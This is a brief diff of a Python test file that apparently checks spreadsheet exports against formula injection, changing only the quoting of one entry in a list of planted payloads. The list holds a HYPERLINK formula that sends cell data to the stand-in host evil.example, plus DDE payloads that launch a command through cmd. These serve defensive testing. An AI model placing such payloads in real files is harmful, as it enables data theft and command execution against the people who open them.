@@ -77,7 +77,7 @@ def test_a_failed_access_log_hands_out_nothing(rf, caseworker, monkeypatch):
 # --- formula injection (OWASP) and typed cells --------------------------------------------------
 
 PLANTED = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
